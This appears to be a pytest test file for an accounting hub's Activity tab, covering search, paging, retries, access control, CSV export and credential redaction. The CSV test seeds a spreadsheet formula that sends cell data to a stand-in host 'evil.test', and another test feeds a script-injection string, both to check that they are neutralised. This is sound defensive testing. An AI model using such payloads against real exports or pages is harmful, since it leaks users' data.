"""The Activity tab: what was sent is found again, by whom it may be seen, and without anything that must not be."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from html import unescape
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from hub.books.refresh import store_records
from hub.database import session
from hub.dispatch import pump
from hub.host import Organization, Permission
from hub.models import BatchRow, ConversationRow, Delivery, Exchange, Installation, Purpose
from hub.orders import activity
from hub.orders.activity import ActivityFilter
from hub.plugin import Invoice, Line, Record, RecordKind, Ref
from hub.serialization import subject_json
from hub.states import DeliveryState
from tests.support.host import Desk
from tests.support.pages import FORM, Browser, badge_tones, count_queries, problem_codes
from tests.support.pretend import Ledger


@pytest.fixture
def path(installation: Installation) -> str:
    return f"/hub/installations/{installation.id}/activity"


def deliver(installation: Installation, number: int, state: DeliveryState = DeliveryState.POSTED, **more: Any) -> None:
    """A delivery as if it had been sent."""
    session().add(Delivery(**({
        "installation_id": installation.id, "organization_id": installation.organization_id, "kind": "invoice",
        "source": f"order/{number}", "order_id": str(number), "title": f"Invoice {number}", "state": state,
        "subject": subject_json(invoice(number)), "sent_by": "Ada Admin",
    } | more)))  # fmt: skip


def invoice(number: int) -> Invoice:
    mugs = Line(item=Ref(id="1"), description="Mugs", quantity=Decimal(1), price=Decimal(5), amount=Decimal("5.00"))
    return Invoice(
        number=str(number), date=dt.date(2026, 11, 12), currency="USD", lines=(mugs,), total=Decimal("5.00"),
        customer=Ref(id="1", name=f"Customer {number}"),
    )  # fmt: skip


def linking_all(installation: Installation) -> None:
    """The customer and the item of every order are in the books."""
    for kind, name in ((RecordKind.CUSTOMER, "ABC Company"), (RecordKind.ITEM, "A7102")):
        store_records(installation.id, kind, [Record(kind=kind, id=f"{kind}-1", name=name)])
    session().commit()


def many(installation: Installation, count: int) -> None:
    for number in range(count):
        if number % 10:
            deliver(installation, 2000 + number)
        else:
            closed = {"what": "The period is closed.", "cure": "Open it."}
            deliver(installation, 2000 + number, DeliveryState.STOPPED, problems=[closed])
    session().commit()


def test_a_delivery_shows_what_it_is_where_it_stands_and_what_was_said(
    browser: Browser, installation: Installation, path: str
) -> None:
    browser.post("/hub/orders/1042/send", FORM)
    pump.deliver(installation.id)
    page = browser.get(path).text
    for text in ("Ada Admin", "ABC Company", "A7102", 'href="/orders/1042"'):
        assert text in page
    assert badge_tones(page.partition('id="hub-deliveries"')[2]) == ["good"] * 4
    invoice = session().scalars(select(Delivery).where(Delivery.kind == "invoice")).one()
    asked = select(BatchRow.idempotency_key).join(Exchange).join(ConversationRow)
    key = session().scalars(asked.where(ConversationRow.delivery_id == invoice.id)).one()
    for htmx in (False, True):
        said = browser.get(f"{path}/{invoice.id}", htmx=htmx).text
        assert said.lstrip().startswith("<section" if htmx else "<!doctype html>")
        assert "create invoice" in said
        assert "&#34;number&#34;: &#34;1042&#34;" in said
        assert key in said
        assert "canary" not in said


def test_pages_follow_each_other_without_gap_or_repetition(app: Flask, installation: Installation) -> None:
    many(installation, 120)
    seen: list[int] = []
    before: int | None = None
    while True:
        found = activity.list_deliveries(installation.id, ActivityFilter(before=before))
        seen += [row.id for row in found.deliveries]
        before = found.more
        if before is None:
            break
    assert seen == list(session().scalars(select(Delivery.id).order_by(Delivery.id.desc())))


@pytest.mark.parametrize(
    ("query", "titles"),
    [
        ("state=attention", ["Invoice 2010", "Invoice 2000"]),
        ("q=invoice+2007", ["Invoice 2007"]),
        ("q=CUSTOMER%20%202012", ["Invoice 2012"]),
        ("q=period+closed", ["Invoice 2010", "Invoice 2000"]),
        ("q=period&state=posted", []),
        ("q=100%25", []),
        ("q=_", []),
    ],
)
def test_what_is_looked_for_is_found(
    browser: Browser, installation: Installation, path: str, query: str, titles: list[str]
) -> None:
    many(installation, 20)
    page = browser.get(f"{path}?{query}", htmx=True).text
    assert [title for title in (f"Invoice {number}" for number in range(2019, 1999, -1)) if title in page] == titles
    assert ("hub-empty" in page) is (titles == [])


def test_a_search_looks_through_some_at_a_time_and_misses_none(
    browser: Browser, installation: Installation, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    many(installation, 60)
    monkeypatch.setattr(activity, "SEARCHED", 7)
    for text in ("period closed", "invoice", "customer 205", "zebra"):
        seen: list[int] = []
        before: int | None = None
        for _ in range(20):
            found = activity.list_deliveries(installation.id, ActivityFilter(text=text, before=before))
            seen += [row.id for row in found.deliveries]
            before = found.more
            if before is None:
                break
        rows = session().scalars(select(Delivery).order_by(Delivery.id.desc()))
        assert seen == [row.id for row in rows if all(word in row.search_key for word in text.split())], text
    begun = browser.get(f"{path}?q=zebra", htmx=True).text
    assert "hub-empty" in begun
    address = unescape(re.search(r'hx-get="([^"]+)" hx-trigger="load"', begun).group(1))  # type: ignore[union-attr]  # It is there.
    for _ in range(20):
        following = browser.get(address, htmx=True).text
        if (further := re.search(r'hx-get="([^"]+)" hx-trigger="load"', following)) is None:
            break
        address = unescape(further.group(1))
    assert "hub-empty" in following
    assert "hub-delivery-" not in following


@pytest.mark.parametrize("query", ["", "?q=invoice", "?q=zebra"])
def test_the_tab_takes_as_many_queries_for_many_as_for_few(
    app: Flask, browser: Browser, installation: Installation, path: str, query: str
) -> None:
    many(installation, 3)
    seen = count_queries(app)
    counts = []
    for more in (0, 300):
        for number in range(more):
            deliver(installation, 5000 + number, DeliveryState.STOPPED)
        session().commit()
        seen.clear()
        assert browser.get(path + query).status_code == 200
        counts.append(len(seen))
    assert counts[0] == counts[1]


def test_a_stopped_delivery_is_tried_again_or_given_up_in_its_row(
    browser: Browser, installation: Installation, ledger: Ledger, path: str
) -> None:
    ledger.refuses = lambda payload: "That number is taken." if "invoices" in payload else ""
    browser.post("/hub/orders/1042/send", FORM)
    pump.deliver(installation.id)
    invoice = session().scalars(select(Delivery).where(Delivery.kind == "invoice")).one()
    assert "That number is taken." in browser.get(path).text
    row = browser.post(f"{path}/{invoice.id}/retry", htmx=True).text
    assert f'id="hub-delivery-{invoice.id}"' in row
    assert badge_tones(row) == ["wait"]
    assert f'name="moving" value="{invoice.id}"' in row  # What was retried is polled until it has arrived.
    assert "hub-count\"" not in row.partition('id="hub-attention-count"')[2]
    assert browser.post(f"{path}/{invoice.id}/cancel").status_code == 303
    moved = browser.get(f"{path}/moved?id={invoice.id}", htmx=True).text
    assert (badge_tones(moved), f"/{invoice.id}/retry" in moved) == (["wait"], False)
    session().expire_all()
    assert invoice.state is DeliveryState.CANCELLED
    pump.deliver(installation.id)
    assert ledger.invoices == []


def going(page: str) -> list[str]:
    """Return the figures of what is done a part at a time."""
    return re.findall(r"\d+", page.partition('id="hub-work-status">')[2].partition("<")[0])


def test_retry_all_goes_on_until_every_one_was_tried(
    browser: Browser, installation: Installation, desk: Desk, path: str
) -> None:
    linking_all(installation)
    for number in range(3000, 3030):
        desk.copy_order(str(number))
        deliver(installation, number, DeliveryState.STOPPED, problems=[{"what": "Closed."}])
    deliver(installation, 3999, DeliveryState.STOPPED)  # Its order is not there any more.
    session().commit()
    first = browser.post(f"{path}/retry", htmx=True).text
    assert going(first) == ["24", "1"], "So many are on their way again, and so many still need attention."
    before = int(first.partition('name="before" value="')[2].partition('"')[0])
    last = browser.post(f"{path}/retry", {"before": before, "again": 24, "still": 1, "total": 31}, htmx=True).text
    assert going(last) == ["30", "1"]
    assert 'name="before"' not in last
    states = session().execute(select(Delivery.order_id, Delivery.state)).all()
    assert {number for number, state in states if state is DeliveryState.STOPPED} == {"3999"}


def test_what_a_document_needs_and_is_gone_from_the_books_is_said_when_it_is_tried_again(
    browser: Browser, installation: Installation, desk: Desk, path: str
) -> None:
    desk.copy_order("3000")
    deliver(installation, 3000, DeliveryState.STOPPED)
    session().commit()
    row = browser.post(f"{path}/1/retry", htmx=True).text
    assert problem_codes(row) == ["record-missing"] * 2
    assert "ABC Company" in row
    assert "A7102" in row


def test_the_file_holds_everything_and_no_formula(browser: Browser, installation: Installation, path: str) -> None:
    many(installation, 600)
    evil = '=HYPERLINK("http://evil.test/?"&A1)'
    deliver(installation, 9000, sent_by=evil, title="+1", posting_number="@x", order_id="-2")
    session().commit()
    answer = browser.get(f"{path}.csv")
    assert answer.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    assert len(rows) == 602
    assert [*rows[1][1:4], rows[1][6]] == [f"'{evil}", "'-2", "'+1", "'@x"]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
    session().scalars(select(Delivery).where(Delivery.order_id == "-2")).one().title = "a; =1;\uff1d2"
    session().commit()
    rows = list(csv.reader(io.StringIO(browser.get(f"{path}.csv").text.removeprefix("\ufeff"))))
    assert rows[1][3] == "a;' =1;'\uff1d2", "Where a semicolon separates cells, and full-width signs are signs."
    filtered = browser.get(f"{path}.csv?state=attention&q=invoice+2010").text
    assert len(filtered.strip().splitlines()) == 2


def test_nothing_that_looks_like_a_credential_is_shown(
    browser: Browser, installation: Installation, path: str
) -> None:
    deliver(installation, 1042)
    session().flush()
    delivery = session().scalars(select(Delivery)).one()
    row = ConversationRow(installation_id=installation.id, purpose=Purpose.POST, delivery_id=delivery.id, argument={})
    batch = BatchRow(installation_id=installation.id, idempotency_key="f" * 20)
    said = {
        "access_token": "canary-1", "a": [{"Password": "canary-2", "text": "Authorization: Bearer canary-3canary"}],
        "xml": "<strPassword>canary-4</strPassword><Name>ABC</Name>", "CreditCardNumber": "canary-5",
        "SSN": "canary-6", "AcctNum": "4000", "name": "<script>alert(1)</script>",
    }  # fmt: skip
    session().add_all([row, batch])
    session().flush()
    session().add(Exchange(conversation_id=row.id, position=0, batch_id=batch.id, slot=0, name="ask",
                           payload=said, writes=True, response=said))  # fmt: skip
    session().commit()
    page = browser.get(f"{path}/{delivery.id}").text
    assert "canary" not in page
    assert "4000" in page
    assert "&lt;script&gt;alert(1)" in page


def test_other_organizations_and_people_without_the_right_see_none_of_it(
    browser: Browser, installation: Installation, desk: Desk, path: str
) -> None:
    deliver(installation, 1042, DeliveryState.STOPPED)
    session().commit()
    pages = ("", ".csv", "/moved?id=1", "/1")
    desk.permissions = {Permission.SEND, Permission.VIEW}
    assert [browser.get(path + page).status_code for page in pages] == [403] * 4
    assert [browser.post(path + page).status_code for page in ("/retry", "/1/retry", "/1/cancel")] == [403] * 3
    desk.permissions = set(Permission)
    desk.working_for = Organization(id="other", name="Other")
    assert [browser.get(path + page).status_code for page in pages] == [404] * 4
    assert [browser.post(path + page).status_code for page in ("/retry", "/1/retry", "/1/cancel")] == [404] * 3
    assert session().scalars(select(Delivery.state)).all() == [DeliveryState.STOPPED]
